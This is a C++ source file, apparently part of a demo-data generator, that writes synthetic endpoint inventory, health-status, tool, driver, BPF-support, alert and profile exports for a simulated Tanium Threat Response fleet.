        const int questionId = 48213 + 1117 * m_month;
        b.append(R"({"data":{"now":")"sv);
        appendPadded(b, std::uint32_t(y), 4);
        b.push_back('/');
        append2(b, mo);
        b.push_back('/');
        append2(b, d);
        b.append(" 09:00:00 GMT-0000\",\"max_available_age\":\"\",\"result_sets\":[{\"age\":0,"
                 "\"id\":"sv);
        appendInt(b, questionId);
        b.append(R"(,"report_count":1,"saved_question_id":0,"question_id":)"sv);
        appendInt(b, questionId);
        b.append(R"(,"archived_question_id":0,"seconds_since_issued":47,"issue_seconds":0,)"
                 R"("expire_seconds":600,"tested":)"sv);
        for (const string_view key : {"passed"sv, "mr_tested"sv, "mr_passed"sv, "estimated_total"sv,
                                      "row_count"sv, "row_count_machines"sv, "item_count"sv}) {
            appendInt(b, n);
            b.append(",\""sv).append(key).append("\":"sv);
        }
        appendInt(b, n);
        b.append(R"(,"select_count":1,"columns":[)"
                 R"({"name":"Computer Name","hash":3409330187,"type":1},)"
                 R"({"name":"Domain","hash":1092986182,"type":1},)"
                 R"({"name":"Version","hash":2744701361,"type":1},)"
                 R"({"name":"Count","hash":0,"type":3}],"rows":[)"sv);
    }
    // 6. Driver status and version (Windows only): UTF-8 with BOM, CRLF, CRLF inside cells.
    m_out[Driver].buf().append(
        "Computer Name,Tanium Driver Status,Tanium Driver Version,Count\r\n"sv);
    // 7. API Gateway endpoints pages (Linux only): a JSON array of pages.
    m_out[Gateway].buf().push_back('[');
    // 8. Threat Response - Status: UTF-8 without BOM, LF.
    m_out[TrStatus].buf().append("Computer Name,Component,Key,Value,Count\n"sv);
}

void SnapshotWriter::writeEndpoint(const Traits &t, const State &s)
{
    m_name.clear();
    m_fleet.appendName(m_name, t);
    m_cid.clear();
    appendInt(m_cid, t.computerId);

    writeInventory(t);
    writeCxStatus(t, s);
    writeSettings(t, s);
    writeTools(s);
    writeExtensions(t, s);
    if (t.platform == Platform::Windows)
        writeDriver(s);
    if (t.platform == Platform::Linux)
        writeGateway(t, s);
    if (s.deployed)
        writeTrStatus(s);
    for (std::size_t f = 0; f < Alerts; ++f)
        m_out[f].rowDone();
}

void SnapshotWriter::writeInventory(const Traits &t)
{
    std::string &b = m_out[Inventory].buf();
    appendCsvField(b, m_name, ',');
    b.push_back(',');
    b.append(m_cid);
    b.push_back(',');
    b.append(platformName(t.platform));
    b.push_back(',');
    appendCsvField(b, kOs[t.os].name, ',');
    b.push_back(',');
    std::array<string_view, 6> g;
    const int n = Fleet::groups(t, g);
    m_cell.clear();
    for (int k = 0; k < n; ++k) {
        if (k > 0)
            m_cell.push_back('\n');
        m_cell.append(g[std::size_t(k)]);
    }
    appendCsvField(b, m_cell, ',');
    b.append(",1\r\n"sv);
}

void SnapshotWriter::writeCxStatus(const Traits &t, const State &s)
{
    Lines<3> &l = m_dkv;
    l.clear();
    auto health = [&](int domain) {
        const int r = s.failReason[std::size_t(domain)];
        return r < 0 ? "ok"sv : kFailReasons[std::size_t(domain)][std::size_t(r)];
    };
    if (s.cxPending) {
        l.add({kPending, kPending, kPending});
    } else if (s.cxError) {
        l.add({kTseError, kTseError, kTseError});
    } else {
        if (s.deployed)
            l.add({"dec"sv, "health_check"sv, health(Dec)});
        l.add({"deploy"sv, "health_check"sv, "ok"sv});
        if (s.deployed)
            l.add({"index"sv, "health_check"sv, health(Index)});
        l.add({"patch"sv, "health_check"sv, s.patchFail ? "patch: scan overdue"sv : "ok"sv});
        if (s.recorder) {
            l.add({"recorder"sv, "health_check"sv, health(Recorder)});
            switch (t.platform) {
            case Platform::Windows:
                if (s.usingDriver)
                    l.add({"recorder"sv, "has_event_source"sv, "TaniumDriver"sv});
                l.add({"recorder"sv, "has_event_source"sv, "ETW"sv});
                break;
            case Platform::Linux:
                l.add({"recorder"sv, "has_event_source"sv,
                       kOs[t.os].bpf == Bpf::Unsupported ? "auditd"sv : "eBPF"sv});
                break;
            case Platform::Mac:
                l.add({"recorder"sv, "has_event_source"sv, "EndpointSecurity"sv});
                break;
            }
            l.add({"recorder"sv, "has_subscription"sv, "threatresponse,index"sv});
            if (t.platform == Platform::Windows)
                l.add({"recorder"sv, "is_using_tanium_driver"sv,
                       s.usingDriver ? "True"sv : "False"sv});
            l.add({"recorder"sv, "min_requirements_met"sv, s.minReqMet ? "True"sv : "False"sv});
        }
        if (s.deployed) {
            l.add({"stream"sv, "health_check"sv, health(Stream)});
            l.add({"threatresponse"sv, "health_check"sv, health(ThreatResponse)});
            m_num.clear();
            appendInt(m_num, s.intel);
            l.add({"threatresponse"sv, "applied_intel_revision"sv, m_num});
            if (s.hasProfile) {
                string_view name;
                int id = 0;
                if (s.staleProfile) {
                    name = kStaleProfiles[std::size_t(s.profile)].name;
                    id = kStaleProfiles[std::size_t(s.profile)].id;
                } else {
                    name = kProfiles[std::size_t(s.profile)].name;
                    id = kProfiles[std::size_t(s.profile)].id;
                }
                l.add({"threatresponse"sv, "applied_profile"sv, name});
                m_num.clear();
                appendInt(m_num, id);
                l.add({"threatresponse"sv, "applied_profile_id"sv, m_num});
                m_num.clear();
                appendInt(m_num, s.profileRevision);
                l.add({"threatresponse"sv, "applied_profile_revision"sv, m_num});
            }
        }
    }
    std::string &b = m_out[CxStatus].buf();
    appendCsvField(b, m_name, ',');
    for (std::size_t c = 0; c < 3; ++c) {
        b.push_back(',');
        appendCsvField(b, l.cell(c), ',');
    }
    b.append(",1\n"sv);
}

void SnapshotWriter::writeSettings(const Traits &t, const State &s)
{
    Lines<3> &l = m_dkv;
    l.clear();
    if (s.settingsPending) {
        l.add({kPending, kPending, kPending});
    } else if (s.settingsCount == 0) {
        l.add({kNoResults, kNoResults, kNoResults});
    } else {
        for (int k = 0; k < s.settingsCount; ++k) {
            const SettingDef &d = kSettings[std::size_t(s.settingsFirst + k) % kSettings.size()];
            l.add(
                {d.domain, d.key, t.platform == Platform::Windows ? d.windowsValue : d.otherValue});
        }
    }
    std::string &b = m_out[Settings].buf();
    appendCsvField(b, m_name, ';');
    for (std::size_t c = 0; c < 3; ++c) {
        b.push_back(';');
        appendCsvField(b, l.cell(c), ';');
    }
    b.append(";1\r\n"sv);
}

void SnapshotWriter::writeTools(const State &s)
{
    Lines<4> &l = m_tools;
    l.clear();
    if (s.toolsPending) {
        l.add({kPending, kPending, kPending, kPending});
    } else {
        for (std::size_t k = 0; k < kToolCount; ++k) {
            const ToolState &ts = s.tools[k];
            string_view status;
            switch (ts.status) {
            case ToolStatus::Absent:
                continue;
            case ToolStatus::Installed:
                status = "Installed"sv;
                break;
            case ToolStatus::NotInstalled:
                status = "Not Installed"sv;
                break;
            case ToolStatus::Installing:
                status = "Installing"sv;
                break;
            }
            l.add({kTools[k].name, status, ts.target, ts.installed});
        }
    }
    std::string &b = m_out[Tools].buf();
    appendCsvField(b, m_name, ',');
    for (std::size_t c = 0; c < 4; ++c) {
        b.push_back(',');
        appendCsvField(b, l.cell(c), ',');
    }
    b.append(",1\r\n"sv);
}

void SnapshotWriter::writeExtensions(const Traits &t, const State &s)
{
    std::string &b = m_out[Extensions].buf();
    if (m_extRows++ > 0)
        b.push_back(',');
    b.append(R"({"id":)"sv);
    appendInt(b, mix32(t.computerId ^ 0xA5A5A5A5u)); // row ids look like hashes, unique
    b.append(R"(,"cid":)"sv);
    b.append(m_cid);
    b.append(R"(,"data":[[{"text":)"sv);
    appendJsonString(b, m_name);
    b.append("}],["sv);
    // Domain and Version cells: one {text} per installed extension, correlated by position.
    auto single = [&](string_view text) {
        b.append(R"({"text":)"sv);
        appendJsonString(b, text);
        b.append("}],["sv);
        b.append(R"({"text":)"sv);
        appendJsonString(b, text);
        b.push_back('}');
    };
    if (s.extPending) {
        single(kPending);
    } else if (!s.deployed) {
        single(kNoResults);
    } else {
        m_cell.clear(); // versions, composed while the domains are written
        int n = 0;
        for (const auto &[domain, tool] : kExtensions) {
            const ToolState &ts = s.tools[tool];
            if (ts.status != ToolStatus::Installed)
                continue;
            if (n > 0) {
                b.push_back(',');
                m_cell.push_back(',');
            }
            b.append(R"({"text":)"sv);
            appendJsonString(b, domain);
            b.push_back('}');
            m_cell.append(R"({"text":)"sv);
            appendJsonString(m_cell, ts.installed);
            m_cell.push_back('}');
            ++n;
        }
        if (n == 0) {
            single(kNoResults);
        } else {
            b.append("],["sv);
            b.append(m_cell);
        }
    }
    b.append(R"(],[{"text":"1"}]]})"sv);
}

void SnapshotWriter::writeDriver(const State &s)
{
    Lines<2> &l = m_driverLines;
    l.clear();
    string_view version = s.tools[ToolDriver].installed;
    if (s.driverPending) {
        l.add({kPending, {}});
        version = kPending;
    } else {
        constexpr string_view path =
            "Driver install path: \\SystemRoot\\System32\\drivers\\TaniumRecorderDrv.sys"sv;
        switch (s.driver) {
        case DriverState::Running:
            l.add({"Service Status: SERVICE_RUNNING"sv, {}});
            l.add({path, {}});
            break;
        case DriverState::Stopped:
            l.add({"Service Status: SERVICE_STOPPED"sv, {}});
            l.add({path, {}});
            break;
        case DriverState::NotStarted:
            l.add({"Service Status: Not started"sv, {}});
            break;
        case DriverState::ServiceNotInstalled:
            l.add({"Service Installation: Not installed"sv, {}});
            break;
        case DriverState::NotInstalled:
            l.add({"Driver Location: Not installed"sv, {}});
            l.add({"Driver Version N/A"sv, {}});
            l.add({"Driver Controller Version N/A"sv, {}});
            version = "N/A"sv;
            break;
        }
    }
    std::string &b = m_out[Driver].buf();
    appendCsvField(b, m_name, ',');
    b.push_back(',');
    appendCsvField(b, l.cell(0), ',');
    b.push_back(',');
    appendCsvField(b, version, ',');
    b.append(",1\r\n"sv);
}

void SnapshotWriter::writeGateway(const Traits &t, const State &s)
{
    std::string &b = m_out[Gateway].buf();
    const int total = m_fleet.linuxCount(m_month);
    const int offset = m_gatewayNodes++;
    if (offset % kGatewayPageSize == 0) {
        if (offset > 0)
            b.push_back(',');
        b.append(R"({"data":{"endpoints":{"edges":[)"sv);
    } else {
        b.push_back(',');
    }
    b.append(R"({"node":{"name":)"sv);
    appendJsonString(b, m_name);
    b.append(R"(,"computerID":")"sv);
    b.append(m_cid);
    b.append(R"(","os":{"platform":"Linux","name":)"sv);
    appendJsonString(b, kOs[t.os].name);
    b.append(R"(},"sensorReadings":{"columns":[)"sv);
    const Bpf bpf = kOs[t.os].bpf;
    m_cell.clear();
    if (!s.bpfPending) {
        m_cell.append("kernel "sv).append(kOs[t.os].kernel);
        switch (bpf) {
        case Bpf::Core:
        case Bpf::None:
            m_cell.append(": BTF available"sv);
            break;
        case Bpf::BccOnly:
            m_cell.append(": BTF not available, kernel headers present"sv);
            break;
        case Bpf::Unsupported:
            m_cell.append(": eBPF not supported"sv);
            break;
        }
    }
    const std::array<std::pair<string_view, string_view>, 3> columns = {{
        {"Recorder - Is BPF BCC Supported"sv, s.bpfPending              ? kPending
                                              : bpf == Bpf::Unsupported ? "False"sv
                                                                        : "True"sv},
        {"Recorder - Is BPF CO-RE Supported"sv, s.bpfPending       ? kPending
                                                : bpf == Bpf::Core ? "True"sv
                                                                   : "False"sv},
        {"Recorder - Is BPF Supported Details"sv, s.bpfPending ? kPending : string_view(m_cell)},
    }};
    for (std::size_t c = 0; c < columns.size(); ++c) {
        if (c > 0)
            b.push_back(',');
        b.append(R"({"name":)"sv);
        appendJsonString(b, columns[c].first);
        b.append(R"(,"sensor":{"name":)"sv);
        appendJsonString(b, columns[c].first);
        b.append(R"(},"values":[)"sv);
        appendJsonString(b, columns[c].second);
        b.append("]}"sv);
    }
    b.append(R"(]}},"cursor":")"sv);
    appendCursor(b, offset);
    b.append("\"}"sv);
    const bool last = offset + 1 == total;
    if (last || (offset + 1) % kGatewayPageSize == 0) {
        b.append(R"(],"pageInfo":{"hasNextPage":)"sv);
        b.append(last ? "false"sv : "true"sv);
        b.append(R"(,"endCursor":")"sv);
        appendCursor(b, offset);
        b.append(R"("},"totalRecords":)"sv);
        appendInt(b, total);
        b.append("}}}"sv);
    }
}

void SnapshotWriter::writeTrStatus(const State &s)
{
    Lines<3> &l = m_trStatus;
    l.clear();
    if (s.cxPending) {
        l.add({kPending, kPending, kPending});
    } else if (s.cxError) {
        l.add({kTseError, kTseError, kTseError});
    } else {
        string_view profile = "None"sv;
        if (s.hasProfile)
            profile = s.staleProfile ? kStaleProfiles[std::size_t(s.profile)].name
                                     : kProfiles[std::size_t(s.profile)].name;
        l.add({"Threat Response"sv, "Active Profile"sv, profile});
        l.add({"Threat Response"sv, "Overall Status"sv,
               !s.hasProfile      ? "Not Configured"sv
               : s.anyTrFailure() ? "Unhealthy"sv
                                  : "Healthy"sv});
    }
    std::string &b = m_out[TrStatus].buf();
    appendCsvField(b, m_name, ',');
    for (std::size_t c = 0; c < 3; ++c) {
        b.push_back(',');
        appendCsvField(b, l.cell(c), ',');
    }
    b.append(",1\n"sv);
}

void SnapshotWriter::endFiles()
{
    m_out[Extensions].buf().append("]}]}}"sv);
    if (m_gatewayNodes == 0) {
        // No Linux endpoint: still one valid (empty) page.
        m_out[Gateway].buf().append(
            R"({"data":{"endpoints":{"edges":[],"pageInfo":{"hasNextPage":false,)"
            R"("endCursor":null},"totalRecords":0}}})"sv);
    }
    m_out[Gateway].buf().push_back(']');
}

void SnapshotWriter::writeAlerts()
{
    const qint64 now = snapshotMs(m_month);
    const qint64 from = now - 120 * kDayMs; // what the API returns for "last 4 months"
    m_out[Alerts].buf().append(R"({"data":[)"sv);
    bool first = true;
    for (int k = 0; k < m_fleet.alertCount(); ++k) {
        const qint64 created = m_fleet.alertCreatedMs(k);
        if (created > now)
            break; // created times grow with k
        if (created < from)
            continue;
        if (!first)
            m_out[Alerts].buf().push_back(',');
        first = false;
        writeAlert(k, created, now);
        m_out[Alerts].rowDone();
    }
    m_out[Alerts].buf().append("]}"sv);
}

void SnapshotWriter::writeAlert(int k, qint64 created, qint64 now)
{
    const Rng &rng = m_fleet.rng();
    const auto uk = std::uint64_t(k);

    // The endpoint: present when the alert fired; a quarter of alerts come from a few noisy
    // machines.
    int month = 0;
    while (month < kSnapshots - 1 && created > snapshotMs(month))
        ++month;
    const bool noisy = chance(rng(Tag::AlertNoisy, uk), 250000);
    const auto pool =
        std::uint32_t(noisy ? std::max(1, m_fleet.endpoints() / 100) : m_fleet.universe());
    int endpoint = -1;
    for (std::uint64_t attempt = 0; attempt < 16 && endpoint < 0; ++attempt) {
        const int i = int(below(rng(Tag::AlertHost, uk, attempt), pool));
        if (m_fleet.present(i, month))
            endpoint = i;
    }
    for (int i = 0; endpoint < 0 && i < m_fleet.universe(); ++i) {
        if (m_fleet.present(i, month))
            endpoint = i;
    }
    const Traits t = m_fleet.traits(endpoint < 0 ? 0 : endpoint);

    // Intel that matched, among those of the endpoint's platform.
    std::array<int, kIntel.size()> weights{};
    for (std::size_t d = 0; d < kIntel.size(); ++d)
        weights[d] = kIntel[d].platform == t.platform ? kIntel[d].weight : 0;
    const IntelDef &intel = kIntel[std::size_t(pickWeighted(rng(Tag::AlertIntel, uk), weights))];
    const string_view user = kUsers[below(rng(Tag::AlertUser, uk), kUsers.size())];

    // Lifecycle. Analysts get faster month by month (MTTI/MTTR trend down).
    Fate fate = Fate::Workflow;
    const std::uint32_t r = below(rng(Tag::AlertFate, uk), 1000);
    if (r < 40)
        fate = Fate::NeverHandled;
    else if (r < 60)
        fate = Fate::Ignored;
    else if (r < 200)
        fate = Fate::DirectResolve; // ~15 % of resolved alerts skip In Progress
    if (m_fleet.forcedNeverHandled(k))
        fate = Fate::NeverHandled;
    else if (m_fleet.forcedDirectResolve(k))
        fate = Fate::DirectResolve;
    int y = 0, mo = 0, d = 0;
    civilFromDays(created / kDayMs, y, mo, d);
    const int monthsSinceMay = (y - 2026) * 12 + mo - 5;
    const qint64 pace = 100 - 13 * std::max(0, monthsSinceMay - 3); // percent of August's
    const std::uint64_t h1 = rng(Tag::AlertDelay, uk);
    const std::uint64_t h2 = rng(Tag::AlertDelay2, uk);
    const std::uint64_t h3 = rng(Tag::AlertDelay3, uk);
    auto minutes = [](qint64 m) { return m * 60000; };
    qint64 ackAt = -1, doneAt = -1;
    switch (fate) {
    case Fate::NeverHandled:
        break;
    case Fate::Ignored:
        doneAt = created + minutes(30 + below(h1, 2880));
        break;
    case Fate::DirectResolve:
        doneAt =
            created + (m_fleet.forcedDirectResolve(k) ? 2 * kDayMs : minutes(60 + below(h1, 7140)));
        break;
    case Fate::Workflow: {
        // The backlog (alerts left for days) shrinks too: 12 % of alerts in August, 6 % by
        // November.
        const std::uint32_t tail = std::uint32_t(std::clamp(12 - 2 * (monthsSinceMay - 3), 6, 12));
        const std::uint32_t a = below(h1, 100);
        const std::uint32_t quick = a * 100 / (100 - tail); // 0-99 unless in the tail
        const qint64 ackMinutes = a >= 100 - tail ? 2880 + below(h2, 5760)
                                  : quick < 45    ? 10 + below(h2, 110)
                                  : quick < 78    ? 120 + below(h2, 360)
                                                  : 480 + below(h2, 2400);
        ackAt = created + (minutes(ackMinutes) + below(h3, 60000)) * pace / 100;
        const std::uint32_t b = below(mix64(h3), 100);
        const std::uint64_t h4 = mix64(h3 + kGamma);
        const qint64 fixMinutes = b < 40   ? 60 + below(h4, 420)
                                  : b < 80 ? 480 + below(h4, 3840)
                                  : b < 95 ? 4320 + below(h4, 10080)
                                           : 28800 + below(h4, 28800);
        doneAt = ackAt + minutes(fixMinutes) * pace / 100 + below(mix64(h4), 1000);
        break;
    }
    }
    string_view state = "unresolved"sv;
    qint64 updated = created;
    bool acked = false;
    if (fate == Fate::Workflow && now >= ackAt) {
        acked = true;
        state = "inprogress"sv;
        updated = ackAt;
    }
    if (doneAt >= 0 && now >= doneAt) {
        state = fate == Fate::Ignored ? "ignored"sv : "resolved"sv;
        updated = doneAt;
    }

    const qint64 alerted = created - 5000 - below(rng(Tag::AlertSkew, uk), 600000);
    const qint64 received = created - below(mix64(rng(Tag::AlertSkew, uk)), 3000);

    std::string &b = m_out[Alerts].buf();
    b.append(R"({"id":)"sv);
    appendInt(b, 4100 + k);
    b.append(R"(,"guid":")"sv);
    const std::uint64_t g1 = rng(Tag::AlertGuid, uk);
    const std::uint64_t g2 = rng(Tag::AlertGuid2, uk);
    appendHex(b, g1 >> 32, 8);
    b.push_back('-');
    appendHex(b, (g1 >> 16) & 0xFFFF, 4);
    b.push_back('-');
    appendHex(b, 0x4000 | (g1 & 0x0FFF), 4); // version 4
    b.push_back('-');
    appendHex(b, 0x8000 | ((g2 >> 48) & 0x3FFF), 4); // RFC 4122 variant
    b.push_back('-');
    appendHex(b, g2 & 0xFFFFFFFFFFFFull, 12);
    b.append(R"(","state":")"sv).append(state);
    b.append(R"(","type":"detect.match","priority":")"sv).append(intel.severity);
    b.append(R"(","severity":")"sv).append(intel.severity);
    b.append(R"(","intelDocId":)"sv);
    appendInt(b, intel.id);
    b.append(R"(,"computerName":)"sv);
    // The alert carries the host name as TR saw it: lower case where the console shows a
    // hand-typed mixed-case name, so matching must ignore case.
    m_name.clear();
    m_fleet.appendName(m_name, t);
    if (t.mixedCase)
        std::transform(m_name.begin(), m_name.end(), m_name.begin(),
                       [](char c) { return c >= 'A' && c <= 'Z' ? char(c - 'A' + 'a') : c; });
    appendJsonString(b, m_name);
    b.append(R"(,"computerIpAddress":"10.)"sv);
    appendInt(b, 10 + 10 * t.site);
    b.push_back('.');
    appendInt(b, (t.index / 250) % 250);
    b.push_back('.');
    appendInt(b, t.index % 250 + 2);
    b.append(R"(","createdAt":")"sv);
    appendIsoMs(b, created);
    b.append(R"(","alertedAt":")"sv);
    appendIsoMs(b, alerted);
    b.append(R"(","updatedAt":")"sv);
    appendIsoMs(b, updated);
    b.append(R"(","ackedAt":)"sv);
    if (acked) {
        b.push_back('"');
        appendIsoMs(b, ackAt);
        b.push_back('"');
    } else {
        b.append("null"sv);
    }
    b.append(R"(,"receivedAt":")"sv);
    appendIsoMs(b, received);
    b.append(R"(","suppressedAt":null,"matchType":")"sv).append(intel.matchType);
    b.append(R"(","path":)"sv);
    m_cell.clear();
    appendWithUser(m_cell, intel.path, user);
    appendJsonString(b, m_cell);

    // details: an object in TR 4.x.
    const std::uint64_t hash1 = rng(Tag::AlertHash, uk);
    const std::uint64_t hash2 = rng(Tag::AlertHash2, uk);
    b.append(R"(,"details":{"match":{"type":")"sv).append(intel.matchType);
    b.append(R"(","source":"recorder","hash":")"sv);
    appendHex(b, hash1, 16);
    appendHex(b, hash2, 16);
    b.append(R"(","properties":{)"sv);
    m_num.clear();
    if (t.platform == Platform::Windows)
        m_num.append("CORP\\"sv);
    m_num.append(user);
    if (intel.matchType == "process"sv) {
        const std::uint64_t hp = rng(Tag::AlertPid, uk);
        b.append(R"("pid":)"sv);
        appendInt(b, 400 + below(hp, 60000));
        b.append(R"(,"ppid":)"sv);
        appendInt(b, 4 + below(mix64(hp), 4000));
        b.append(R"(,"name":)"sv);
        appendJsonString(b, intel.process);
        b.append(R"(,"fullpath":)"sv);
        appendJsonString(b, m_cell);
        b.append(R"(,"args":)"sv);
        m_cell.clear();
        appendWithUser(m_cell, intel.args, user);
        appendJsonString(b, m_cell);
    } else {
        b.append(R"("file":{"fullpath":)"sv);
        appendJsonString(b, m_cell);
        b.append(R"(,"size":)"sv);
        appendInt(b, 68 + below(hash2, 4000000));
        b.append(R"(,"md5":")"sv);
        appendHex(b, hash1, 16);
        appendHex(b, hash2, 16);
        b.append("\"}"sv);
    }
    b.append(R"(,"user":)"sv);
    appendJsonString(b, m_num);
    b.append(R"(}}},"intelDoc":{"id":)"sv);
    appendInt(b, intel.id);
    b.append(R"(,"name":)"sv);
    appendJsonString(b, intel.name);
    b.append(R"(,"type":)"sv);
    appendJsonString(b, intel.type);
    b.append("}}"sv);
}

void SnapshotWriter::writeProfiles()
{
    std::string &b = m_out[Profiles].buf();
    b.append(R"({"data":[)"sv);
    for (std::size_t p = 0; p < kProfiles.size(); ++p) {
        const ProfileDef &d = kProfiles[p];
        if (p > 0)
            b.push_back(',');
        b.append(R"({"name":)"sv);
        appendJsonString(b, d.name);
        b.append(R"(,"id":)"sv);
        appendInt(b, d.id);
        b.append(R"(,"revision":)"sv);
        appendInt(b, d.revision[std::size_t(m_month)]);
        b.append(R"(,"status":)"sv);
        appendJsonString(b, d.status[std::size_t(m_month)]);
        b.append(R"(,"computerGroups":[)"sv);
        bool firstGroup = true;
        for (string_view g : d.groups) {
            if (g.empty())
                continue;
            if (!firstGroup)
                b.push_back(',');
            firstGroup = false;
            appendJsonString(b, g);
        }
        b.append("]}"sv);
    }
    b.append("]}"sv);
}

} // namespace

// ============================================================================ DemoFleet

struct DemoFleet::Data final : Fleet
{
    using Fleet::Fleet;
};

DemoFleet::DemoFleet(int endpoints, quint32 seed) : m_data(std::make_shared<Data>(endpoints, seed))
{}

int DemoFleet::snapshotCount() const
{
    return kSnapshots;
}

int DemoFleet::endpointCount(int index) const
{
    return index >= 0 && index < kSnapshots ? m_data->count(index) : 0;
}

QDateTime DemoFleet::snapshotTime(int index)
{
    if (index < 0 || index >= kSnapshots)
        return {};
    return QDateTime::fromMSecsSinceEpoch(snapshotMs(index), Qt::UTC);
}

QString DemoFleet::snapshotLabel(int index)
{
    if (index < 0 || index >= kSnapshots)
        return {};
    // Month names in English on purpose: labels are data, like the files, and must not
    // depend on the locale of the machine that generated them.
    static const char *const months[] = {"January",   "February", "March",    "April",
                                         "May",       "June",     "July",     "August",
                                         "September", "October",  "November", "December"};
    const auto &d = kSnapshotDates[std::size_t(index)];
    return QStringLiteral("%1 %2 maintenance").arg(QLatin1String(months[d[1] - 1])).arg(d[0]);
}

DemoSnapshotFiles DemoFleet::writeSnapshot(int index, const QString &dir, QString *error) const
{
    DemoSnapshotFiles result;
    if (index < 0 || index >= kSnapshots) {
        if (error)
            *error =
                QStringLiteral("no demo snapshot %1 (there are %2)").arg(index).arg(kSnapshots);
        return result;
    }
    if (!QDir().mkpath(dir)) {
        if (error)
            *error = QStringLiteral("cannot create folder %1").arg(dir);
        return result;
    }
    SnapshotWriter writer(*m_data, index, dir);
    if (!writer.run(&result.files, error))
        return result;
    result.takenAt = snapshotTime(index);
    result.label = snapshotLabel(index);
    return result;
}

} // namespace trh
